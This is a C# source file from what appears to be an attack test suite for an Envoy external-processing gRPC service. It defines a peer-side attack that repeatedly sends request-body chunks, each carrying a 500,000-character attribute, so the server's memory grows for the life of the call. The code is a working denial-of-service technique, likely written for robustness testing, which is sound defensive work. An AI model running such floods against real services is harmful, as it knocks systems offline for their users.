using Envoy.Service.ExtProc.V3;
using ExtProc.Attacks.Running;
using ExtProc.Attacks.Wire;
using Google.Protobuf;
using Google.Protobuf.WellKnownTypes;

namespace ExtProc.Attacks.Messages;

/// <summary>Attributes beside each piece of a body; kept, they grow for the life of the call.</summary>
internal sealed class AttributesBesideChunks : Attack
{
    public override Attacker By => Attacker.Peer;

    public override async Task RunAsync(Target target)
    {
        ProcessingRequest chunk = Requests.RequestBody(ByteString.CopyFromUtf8("a"));
        chunk.Attributes["a"] = new() { Fields = { ["b"] = Value.ForString(new string('x', 500_000)) } };
        byte[] message = chunk.Framed();
        await target.OnManyAsync(2, async peer =>
        {
            int stream = await peer.OpenAsync();
            await peer.SendAsync(stream, Requests.RequestHeaders().Framed());
            for (int i = 0; i < target.Count(50, 1000) && !peer.Gone && !peer.IsOver(stream); i++)
            {
                await peer.SendAsync(stream, message);
            }
        });
        await target.HoldAsync();
    }
}
